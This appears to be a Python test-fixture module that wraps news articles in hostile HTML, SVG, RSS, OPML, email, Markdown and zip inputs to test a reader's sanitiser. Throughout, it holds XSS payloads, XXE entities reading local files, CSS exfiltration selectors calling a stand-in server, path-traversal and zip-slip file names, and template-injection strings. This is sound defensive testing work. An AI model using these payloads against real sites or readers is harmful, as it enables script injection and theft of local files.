"""Everything that a hostile article may try, in every format in which articles come."""

# ruff: noqa: E501 - a piece of markup stands on a line of its own

from __future__ import annotations

import io
import zipfile
from email.message import EmailMessage
from html import escape
from pathlib import Path

from tests.stories import feed, story

DATA = Path(__file__).parents[1] / "data"

# What stands for the secrets where none is planted.
FACTS = {
    "file": "file:///etc/hostname",
    "path": "/etc/hostname",
    "svg": "file:///etc/x.svg",
    "svgpath": "/etc/x.svg",
    "server": "http://127.0.0.98:9",
    "packed": "PHN2Zz4=",
}

# `{file}` is the secret file, `{svg}` a drawing with the same secret, `{server}` an address on
# the secret server; each piece stands between two paragraphs of an honest article.
PIECES = """
<script>fetch("{server}/script")</script>
<script src="{server}/script.js"></script>
<ScRiPt src="{file}"></sCrIpT>
<link rel="attachment" href="{file}" title="Read me">
<link rel="stylesheet attachment" href="{server}/style.css">
<link rel="stylesheet" href="{file}">
<link rel="preload prefetch dns-prefetch icon" href="{server}/icon.png">
<a rel="attachment" href="{file}">attached</a>
<a rel="attachment" href="{server}/attached.txt">attached</a>
<style>@import "{server}/import.css"; @import url({file}); p {{ background: url({server}/bg.png) }} \
@font-face {{ font-family: x; src: url({server}/font.woff) }} \
input[value^="S"] {{ background: url({server}/leak?S) }} p::before {{ content: url({svg}) }}</style>
<p style="background:url({server}/style.png)">styled</p>
<p style="background-image:\\75rl('{file}');list-style:url({svg});cursor:url({server}/c.cur)">es</p>
<p style="content:url({svg});border-image:url({server}/b.png) 30;mask:url({svg}#m)">masked</p>
<div style="background:image-set('{server}/set.png' 1x);shape-outside:url({server}/sh.png)">x</div>
<object data="{file}" type="text/plain">object</object>
<object data="{server}/object.svg" type="image/svg+xml"></object>
<embed src="{file}"><embed src="{server}/embed.svg">
<iframe src="{file}"></iframe><iframe src="{server}/frame"></iframe>
<iframe srcdoc="&lt;script src='{server}/srcdoc.js'&gt;&lt;/script&gt;&lt;img src='{svg}'&gt;"></iframe>
<base href="file:///"><base href="{server}/base/">
<meta http-equiv="refresh" content="0;url={file}">
<meta http-equiv="refresh" content="0;url={server}/refresh">
<meta http-equiv="Content-Security-Policy" content="report-uri {server}/csp">
<img src="{file}" alt="one"><img src="{svg}" alt="two"><img src="{server}/img.png" alt="three">
<img src="x.png" srcset="{svg} 2x, {server}/srcset.png 3x" alt="four" width="600" height="400">
<img data-src="{svg}" alt="five"><img data-original="{server}/lazy.png" alt="six">
<img lowsrc="{server}/low.png" dynsrc="{file}" longdesc="{file}" usemap="{server}/map" alt="seven">
<picture><source srcset="{svg}"><source srcset="{server}/source.webp"><img src="{svg}"></picture>
<noscript><img src="{svg}"><img src="{server}/noscript.png"></noscript>
<img src="\x01{svg}"><img src=" {svg}"><img src="FILE:{svgpath}"><img src="file:{svgpath}">
<img src="file://localhost{svgpath}"><img src="file:////{svgpath}"><img src="{svgpath}">
<img src="../secret.svg"><img src="..\\secret.svg"><img src="%2e%2e/secret.svg">
<img src="..%2fsecret.svg"><img src="....//secret.svg"><img src="./../secret/../secret.svg">
<img src="data:image/svg+xml;base64,{packed}" alt="packed">
<img src="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;"><img src="data:image/png;base64,!!">
<img src="javascript:alert(1)"><img src="vbscript:x"><img src="jar:{file}!/x"><img src="view-source:{svg}">
<img src="ftp://127.0.0.98/x.png"><img src="//127.0.0.98/x.png"><img src="http:///{svgpath}">
<img src="x" onerror="fetch('{server}/onerror')" onload=alert(1) alt="handled">
<p onclick="alert(1)" onmouseover='x' ONFOCUS=x on\x00load=x>handled</p>
<details open ontoggle="alert(1)"><summary>more</summary>told</details>
<video src="{server}/video.mp4" poster="{svg}"></video><video poster="{server}/poster.png"></video>
<audio src="{server}/audio.mp3"></audio><track src="{server}/track.vtt">
<input type="image" src="{server}/input.png"><button formaction="{server}/form">send</button>
<form action="{server}/form"><input name="q" value="S"></form><isindex action="{server}/isindex">
<table background="{server}/table.png"><tr><td background="{svg}">cell</td></tr></table>
<body background="{server}/body.png"><bgsound src="{server}/bg.wav"><xml src="{server}/x.xml"></xml>
<a href="javascript:alert(1)">one</a><a href="java&#x0A;script:alert(1)">two</a>
<a href="&#106;avascript&colon;alert(1)">three</a><a href=" \x01javascript:alert(1)">four</a>
<a href="JaVaScRiPt&#58;alert(1)">five</a><a href="data:text/html,&lt;script&gt;x&lt;/script&gt;">six</a>
<a href="{file}">seven</a><a href="file:///etc/passwd">eight</a><a href="vbscript:x">nine</a>
<a href="{server}/ping" ping="{server}/pinged">ten</a><a href="\\\\127.0.0.98\\share">eleven</a>
<a id="../../x" name="..\\..\\x">path</a><p id="../../../etc/passwd">path</p><p id="a\x00b">nul</p>
<p id="{long}">long</p><p id="x' onclick='alert(1)">quoted</p><p id='"><script>x</script>'>broken</p>
<svg viewBox="0 0 9 9"><script>alert(1)</script><image href="{svg}"/><image xlink:href="{file}"/> \
<use href="{svg}#s"/><use xlink:href="{server}/use.svg#s"/><a xlink:href="javascript:x"><text>t</text> \
</a><foreignObject><iframe src="{file}"></iframe><p onclick="x">f</p></foreignObject><animate \
attributeName="href" values="javascript:x"/><set attributeName="onmouseover" to="x"/><style>@import \
url({server}/svg.css);</style><filter id="f"><feImage href="{svg}"/></filter><path d="M0 0h9v9z" \
fill="url({server}/fill.svg#p)" style="fill:url({svg}#p)" onload="x"/></svg>
<math><mtext><img src="{svg}"></mtext><mi href="javascript:alert(1)">x</mi><maction \
actiontype="statusline#{server}" xlink:href="{file}">y</maction><annotation-xml \
encoding="text/html"><script>x</script><img src="{server}/math.png"></annotation-xml></math>
<math href="{file}"><mglyph src="{svg}"/><mi>z</mi></math>
<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{file}" parse="text"/>
<template><img src="{svg}"></template><template shadowrootmode="open"><img src="{svg}"></template>
<portal src="{file}"></portal><frameset><frame src="{file}"></frameset><applet code="{file}"></applet>
<layer src="{server}/layer"></layer><ilayer src="{file}"></ilayer><marquee onstart=x>m</marquee>
<!--[if gte IE 4]><script>x</script><img src="{svg}"><![endif]--><![CDATA[<img src="{svg}">]]>
<?xml-stylesheet href="{server}/pi.css"?><?php readfile("{path}") ?><!DOCTYPE x SYSTEM "{server}/x.dtd">
<noscript><p title="</noscript><img src=x onerror=alert(1)>">mutated</p></noscript>
<blockquote cite="{file}">quoted</blockquote><q cite="javascript:x">q</q><ins cite="{file}">i</ins>
<p>{{{{ config }}}} {{% include "{path}" %}} ${{7*7}} &lt;%= x %&gt;</p>
"""

DRAWING = """<?xml version="1.0"?><?xml-stylesheet href="{server}/pi.css" type="text/css"?>
<!DOCTYPE svg [<!ENTITY f SYSTEM "{file}"><!ENTITY % p SYSTEM "{server}/dtd"> %p;]>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="900"
 height="600" viewBox="0 0 900 600" onload="alert(1)"><script href="{server}/s.js">alert(1)</script>
<style>@import url({server}/svg.css); path {{ fill: url({server}/p.svg#x) }}</style><text>&f;</text>
<image href="{svg}" width="90" height="60"/><image xlink:href="{server}/i.png" width="9" height="6"/>
<use href="{svg}#s"/><foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="{file}"/>
</foreignObject><path d="M0 0h900v600H0z" fill="#a33" style="marker:url({svg}#m)"/>
<a xlink:href="javascript:alert(1)"><path d="M9 9h9v9z"/></a></svg>"""

MARKDOWN = """---
title: Told in Markdown
lead: ../secret.svg
url: javascript:alert(1)
---

{first}

![one]({file}) ![two]({svg}) ![three](../secret.svg) ![four]({server}/md.png)
![five](file:../secret.svg) ![six](%2e%2e/secret.svg) ![seven](<{svgpath}>) ![eight](..\\secret.svg)

[one](javascript:alert(1)) [two]({file}) <javascript:alert(1)> [three][x] ![ref][y]

[x]: {file}
[y]: {svg}

{second}

{html}
"""


def fill(text: str, facts: dict[str, str]) -> str:
    """Return `text` with the addresses of what is secret."""
    return text.format(**{"long": "x" * 70_000, **facts})


def markup(number: int, facts: dict[str, str]) -> str:
    """Return an article's text as HTML, something hostile between all paragraphs."""
    one = story(number)
    pieces = fill(PIECES, facts).strip().splitlines()
    size = -(-len(pieces) // len(one.paragraphs))
    return "".join(
        f"<p>{paragraph}</p>\n" + "\n".join(pieces[number * size :][:size]) + "\n"
        for number, paragraph in enumerate(one.paragraphs)
    )


def page(number: int, facts: dict[str, str]) -> bytes:
    """Return a hostile page."""
    title = story(number).title
    file, server = facts["file"], facts["server"]
    return (
        f'<html lang="en" manifest="{server}/manifest"><head><meta charset="utf-8">'
        f'<title>{title}</title><link rel="canonical" href="{file}">'
        f'<meta property="og:image" content="{facts["svg"]}"><meta property="og:url"'
        f' content="{file}"><meta name="author" content="&lt;script&gt;x&lt;/script&gt;"><script'
        f' type="application/ld+json">{{"@type":"NewsArticle","image":"{server}/ld.png",'
        f'"url":"javascript:x","license":"{file}"}}</script></head><body><article>'
        f"<h1>{title}</h1>{markup(number, facts)}</article></body></html>"
    ).encode()


def rss(number: int, link: str, facts: dict[str, str]) -> bytes:
    """Return a feed whose text, links and pictures are hostile."""
    one, file, server = story(number), facts["file"], facts["server"]
    entry = one.item(link).replace(
        "</item>",
        f"<content:encoded>{escape(markup(number, facts))}</content:encoded>"
        f'<enclosure url="{facts["svg"]}" type="image/svg+xml"/><author>&f;&s;</author></item>',
    )
    other = story(number + 1)
    second = other.item(file, full=True).replace("<item>", f'<item xml:base="{file}">')
    data = feed("Hostile &f; &s;", [entry, second])
    kind = (
        f'<!DOCTYPE rss [<!ENTITY f SYSTEM "{file}"><!ENTITY s SYSTEM "{server}/entity">'
        f'<!ENTITY % p SYSTEM "{server}/dtd"> %p;]>'
    )
    return data.replace(b"?>", b"?>" + kind.encode(), 1)


def opml(link: str, facts: dict[str, str]) -> bytes:
    """Return an outline that leads to a feed, and to what is secret."""
    return (
        f'<!DOCTYPE opml [<!ENTITY f SYSTEM "{facts["file"]}">]><opml version="2.0"'
        f' xmlns:xi="http://www.w3.org/2001/XInclude"><head><title>&f;</title></head><body>'
        f'<xi:include href="{facts["file"]}" parse="text"/><outline text="&f;" xmlUrl="{link}"/>'
        f'<outline text="a" xmlUrl="{facts["file"]}"/><outline text="../../x" xmlUrl='
        f'"{facts["server"]}/feed"/><outline text="b" xmlUrl="javascript:x"/></body></opml>'
    ).encode()


def letter(number: int, facts: dict[str, str]) -> bytes:
    """Return a hostile newsletter, with files that want to be elsewhere."""
    message = EmailMessage()
    message["Subject"] = story(number).title
    message["From"] = "The Column <column@paper.example>"
    message["Date"] = "Mon, 23 Nov 2026 08:00:00 +0000"
    message["List-Id"] = "../../x <x.paper.example>"
    message.set_content("See the other part.")
    message.add_alternative(
        markup(number, facts).replace("\0", "") + '<img src="cid:a"><img src="cid:../../x">',
        subtype="html",
    )
    drawing = fill(DRAWING, facts).encode()
    message.add_attachment(
        drawing, maintype="image", subtype="svg+xml", cid="<a>", filename="../../../x.svg"
    )
    message.add_attachment(b"x", maintype="image", subtype="png", cid="<../../x>", filename="a\\b")
    return message.as_bytes()


def markdown(number: int, facts: dict[str, str]) -> str:
    """Return hostile Markdown."""
    first, second, *_ = story(number).paragraphs
    # All markup is text there, and a word as long as an id may be is another matter.
    html = fill(PIECES, facts | {"long": "x" * 500})
    return fill(MARKDOWN, facts | {"first": first, "second": second, "html": html})


def packed(name: str, *changes: tuple[str, str, str]) -> bytes:
    """Return a packed file of the samples with `old` replaced by `new` in parts of it."""
    out = io.BytesIO()
    with zipfile.ZipFile(DATA / name) as old, zipfile.ZipFile(out, "w", 8) as new:
        for part in old.namelist():
            data = old.read(part)
            for where, before, after in changes:
                if where == part:
                    assert before.encode() in data, (part, before)
                    data = data.replace(before.encode(), after.encode(), 1)
            new.writestr(part, data)
        new.writestr("../../../escaped.txt", "x")
        new.writestr("/tmp/escaped.txt", "x")  # noqa: S108 - where it must not be written
    return out.getvalue()
